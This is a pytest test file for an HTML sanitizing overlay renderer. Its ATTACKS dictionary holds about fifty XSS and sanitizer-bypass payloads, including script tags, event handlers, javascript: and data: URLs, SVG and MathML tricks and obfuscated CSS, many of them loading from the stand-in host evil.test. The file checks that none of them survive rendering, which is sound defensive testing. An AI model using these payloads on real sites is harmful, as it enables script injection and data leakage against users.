"""Pages of others, shown: nothing of them runs, loads or leads away, whatever they hold."""

from __future__ import annotations

import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from sitegist.overlay import POLICY, Mark, of_blocks, render
from sitegist.overlay.elements import SAME
from sitegist.overlay.styles import declarations, sheet
from sitegist.page import read, segment

OURS = {"html", "head", "body", "meta", "title", "style", "img"} | {
    "sg-box",
    "sg-inline",
    "sg-part",
    "sg-picture",
}
ATTRIBUTES = set(
    "class id style align valign clear dir lang type bgcolor color text width height border"
    " cellpadding cellspacing colspan rowspan span start value size nowrap noshade reversed"
    " href target tabindex src alt open data-label content charset http-equiv name".split()
)
# Each would call alert, or fetch what is at evil.test, if it were left as it is.
ATTACKS = {
    "script": "<script>alert(1)</script><p>a",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script from elsewhere": "<script src=//evil.test/x.js></script><p>a",
    "event handler": "<p onclick=alert(1) onmouseover='alert(1)'>a",
    "image error": "<img src=x onerror=alert(1)><img src=//evil.test/i.png alt='\"><script>'>",
    "many sources": "<img srcset='//evil.test/1.png 2x' src=//evil.test/2.png><picture><source"
    " srcset=//evil.test/3.png></picture>",
    "body": "<body onload=alert(1) background=//evil.test/b.png bgcolor='red\" onload=alert(1)'>a",
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>"
    "<text>a</text></a><image href=//evil.test/i.svg /><use href=//evil.test/x#y /></svg>",
    "svg animation": "<svg><a><animate attributeName=href values=javascript:alert(1) />"
    "<text>a</text></a><set attributeName=onmouseover to=alert(1)></svg>",
    "svg style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "svg in svg": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe>"
    "<p onclick=alert(1)>a</foreignObject></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
    " onerror=alert(1)&gt;'>",
    "math link": "<math href=javascript:alert(1)><mi xlink:href=javascript:alert(1)>a</mi></math>",
    "iframe": "<iframe src=//evil.test srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "objects": "<object data=//evil.test/x.swf><param name=src value=//evil.test/y></object>"
    "<embed src=//evil.test/z><applet code=//evil.test/q></applet>",
    "frames": "<frameset><frame src=//evil.test></frameset>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><p>a",
    "refresh in the body": "<p>a<meta http-equiv=refresh content='0;url=//evil.test'>",
    "cookie": "<meta http-equiv=set-cookie content=a=b><p>a",
    "base": "<base href=//evil.test/ target=_top><a href=x>a</a>",
    "links": "<link rel=stylesheet href=//evil.test/x.css><link rel=preload href=//evil.test/p>"
    "<link rel=dns-prefetch href=//evil.test><p>a",
    "javascript": "<a href='javascript:alert(1)'>a</a>"
    "<a href=' &#1;JaVaScRiPt&colon;alert(1)'>b</a>"
    "<a href='java\tscript:alert(1)'>c</a><area href=javascript:alert(1)>",
    "encoded": "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)'>a</a>"
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "data": "<a href='data:text/html,<script>alert(1)</script>'>a</a>"
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>"
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "ping": "<a href=//evil.test/ ping=//evil.test/p target=_blank rel=opener>a</a>",
    "forms": "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>a</button>"
    "<input type=image src=//evil.test/i.png><input value='\"><script>alert(1)</script>'"
    " onfocus=alert(1) autofocus></form><isindex action=//evil.test>",
    "style attribute": "<p style='background:url(//evil.test/a);width:expression(alert(1));"
    "-moz-binding:url(//evil.test/x);behavior:url(//evil.test/h)'>a",
    "style attribute in disguise": r"<p style='background:\75rl(//evil.test);background:u/**/rl("
    r"//evil.test);list-style:image-set(\"//evil.test/s\" 1x)'>a",
    "style sheet": "<style>@import url(//evil.test/a);@import '//evil.test/b';"
    "p{background:URL( //evil.test/c )}@font-face{font-family:x;src:url(//evil.test/f)}"
    "body{background:-webkit-image-set('//evil.test/w' 1x)}</style><p>a",
    "style sheet in disguise": r"<style>@\69mport '//evil.test/a';p{"
    r"background:\75 rl(//evil.test/b);content:'\'/*'url(//evil.test/c)}/*</style><p>a",
    "style ends early": "<style><!--</style><script>alert(1)</script>--></style><p>a",
    "template": "<template><script>alert(1)</script><img src=//evil.test/t></template><p>a",
    "shadow root": "<div><template shadowrootmode=open><script>alert(1)</script><slot></slot>"
    "<img src=x onerror=alert(1)></template>a</div>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><p>a",
    "title": "<title><script>alert(1)</script></title><title></title><img src=x onerror=alert(1)>",
    "textarea": "<textarea><script>alert(1)</script></textarea><textarea></textarea"
    "><img src=x onerror=alert(1)>",
    "plaintext": "<p>a<plaintext><script>alert(1)</script>",
    "xmp": "<xmp><script>alert(1)</script><img src=//evil.test/x></xmp>"
    "<listing><b onclick=alert(1)>",
    "noembed": "<noembed><img src=x onerror=alert(1)></noembed>"
    "<noframes><script>alert(1)</noframes>",
    "comment, never closed": "<p>a<!-- <script>alert(1)</script>",
    "comment in a comment": "<!--[if IE]><script>alert(1)</script><![endif]--><!--><script>alert(1)"
    "</script>--><p>a",
    "cdata": "<svg><![CDATA[<script>alert(1)</script>]]></svg>"
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "select": "<select><option><script>alert(1)</script><style></select>"
    "<img src=x onerror=alert(1)>",
    "our own names": "<sg-part class='sg-mark sg-kept' id=block-0 data-label=kept>a</sg-part>"
    "<a class=sg-text href=//evil.test>b</a>",
    "attributes without spaces": "<p/onclick=alert(1)//style=x:expression(alert(1))>a",
    "quotes in attributes": "<p class='\"><script>alert(1)</script>' id=\"'onclick=alert(1)\">a",
    "nulls": "<scr\0ipt>alert(1)</scr\0ipt><img src=x o\0nerror=alert(1)>",
    "half a tag": "<p>a<img src=x onerror=alert(1)",
    "tables": "<table><script>alert(1)</script><tr onclick=alert(1)><td background=//evil.test/t>"
    "<a href=javascript:alert(1)>a<table><a href=javascript:alert(1)>b",
    "dialog": "<dialog open onclose=alert(1)>a</dialog><details ontoggle=alert(1) open>b</details>"
    "<video src=//evil.test/v poster=//evil.test/p onerror=alert(1)></video>"
    "<marquee onstart=alert(1)>",
    "surrogates": "<p title='\ud800'>a\udfff<script>alert(1)</script>",
}


class _Tokens(HTMLParser):
    """What a reader that knows nothing of trees sees."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def shown(html: str) -> str:
    """A page with a mark on each of its blocks."""
    blocks = segment(read(html, "https://x.org/"))
    marks = [
        Mark(number, "kept", f"{number} <b>\"'", f"/page?block={number}")
        for number in range(len(blocks))
    ]
    return render(blocks.page, of_blocks(blocks, marks))


@pytest.mark.parametrize("name", ATTACKS)
def test_only_what_is_listed_is_written(name: str) -> None:
    """Elements, attributes, addresses and styles of a hostile page are those that we list."""
    html = shown(ATTACKS[name])
    tokens = _Tokens(html)
    assert not tokens.others
    for tag, attrs in tokens.tags:
        assert tag in SAME | OURS
        assert set(attrs) <= ATTRIBUTES, attrs
        assert attrs.get("href", "/page?block=").startswith("/page?block=")
        assert re.match(
            r"data:image/(png|gif|jpeg);base64,", attrs.get("src", "data:image/png;base64,")
        )
        assert not re.search(r"url|expression|\\|binding|behavior", attrs.get("style", ""), re.I)
    policies = [attrs["content"] for tag, attrs in tokens.tags if "http-equiv" in attrs]
    assert policies == [POLICY]
    styles = re.findall(r"<style>(.*?)</style>", html, re.S)
    assert len(styles) == sum(tag == "style" for tag, _ in tokens.tags)
    for style in styles[1:]:
        assert not re.search(r"url\s*\(|@import|image-set\s*\(|</|<!", style, re.I)


def test_the_text_of_an_attack_is_text() -> None:
    """Markup that a page shows as text is still text."""
    html = shown("<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt; \"'</p>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt; \"'" in html


def test_inline_styles_and_pictures_inside_the_page_stay() -> None:
    """What shapes and colours a page without loading anything is still there."""
    picture = "data:image/png;base64,iVBORw0KGgo="
    html = shown(
        "<style>p.a > b { color: green }</style>"
        "<p class='a sg-kept' style='color: red; margin: 1px'>"
        f"a <b>b</b><font color=#ff0000 size=5>c</font><img src='{picture}' alt=dot width=20>"
        "<table bgcolor=yellow><tr><td colspan=2 width=50%>d</table>"
    )
    for kept in (
        "p.a > b { color: green }",
        'style="color: red; margin: 1px"',
        '<font color="#ff0000" size="5">',
        f'<img src="{picture}" alt="dot" width="20">',
        '<table bgcolor="yellow"',
        '<td colspan="2" width="50%"',
    ):
        assert kept in html
    assert "a sg-kept" not in html


def test_marks_stand_on_the_largest_parts_of_one_block() -> None:
    """Not on each text run, and neighbours share one; the first part is the place to jump to."""
    html = shown("<div><div><p>One <b>two</b></p></div></div><div>three <i>four</i><p>five</div>")
    assert html.count("data-label=") == 3
    assert '<div class="sg-mark sg-kept" data-label="0 &lt;b&gt;&quot;&#x27;" id="block-0">' in html
    assert re.search(r'<div><sg-part class="[^"]*" data-label="1[^>]*id="block-1">', html)
    assert re.search(r'<p class="sg-mark sg-kept" data-label="2[^>]*id="block-2">', html)


def test_lines_of_a_block_are_marked_one_by_one() -> None:
    """What an empty line is between would be marked as well otherwise."""
    html = shown("<div>one <b>two</b><br><br>three<wbr> four<p>five</div>")
    assert html.count("<sg-part") == 2
    assert re.search(r"</b></sg-part><br><br><sg-part[^>]*><a[^>]*>\nthree</a><wbr>", html)


def test_text_and_links_lead_to_the_reasons() -> None:
    """A link of the page leads to its block's reasons; text outside of links does so, too."""
    html = shown("<p>see <a href=//evil.test>that</a></p>")
    assert '<a class="sg-text" href="/page?block=0" target="_top" tabindex="-1">see </a>' in html
    assert '<a class="sg-link" href="/page?block=0" target="_top" tabindex="-1">that</a>' in html


def test_without_marks_nothing_is_marked_and_nothing_leads_anywhere() -> None:
    """A page can be shown as it is."""
    html = render(read("<p>see <a href=/x>that</a>"))
    assert "sg-mark " not in html.partition("</head>")[2]
    assert "href=" not in html.partition("</head>")[2]


def test_a_page_without_its_source_is_shown_as_well() -> None:
    """Rows, styles and text are enough; what only the source has is missing."""
    page = read("<style>b{color:red}</style><p class=x style='color:blue' title=t>a <b>b</b>")
    html = render(replace(page, html=""))
    assert '<p class="x" style="color: blue">a <b>b</b></p>' in html


def test_a_very_large_page_is_cut_and_says_so() -> None:
    """The rest of it is left out; nothing is left open."""
    html = render(read("<ul>" + "<li><b>a</b>" * 30_000))
    assert "The page goes on" in html
    assert html.count("<li>") == html.count("</li>") < 30_000


def test_the_same_page_gives_the_same_document() -> None:
    """Byte for byte."""
    page = read("<p>a<p>b")
    marks = of_blocks(segment(page), [Mark(n, "kept", "a", "b") for n in (0, 1)])
    assert render(page, marks) == render(page, marks)


def test_styles_that_cover_the_page_are_taken_out() -> None:
    """Nothing stays where it is while the page scrolls, over all the rest."""
    assert declarations("position: fixed; inset: 0; z-index: 9; color: red") == "color: red"
    assert sheet("p{POSITION : Fixed; top:0}") == "p{position:static; top:0}"
    # nothing stands between the letters of what is looked for
    assert sheet("p{position:/**/fixed}") == "p{position:static}"
    assert sheet(r"@im\port 'x'; p{background:u\rl(x)}") == "@none 'x'; p{background:none(x)}"
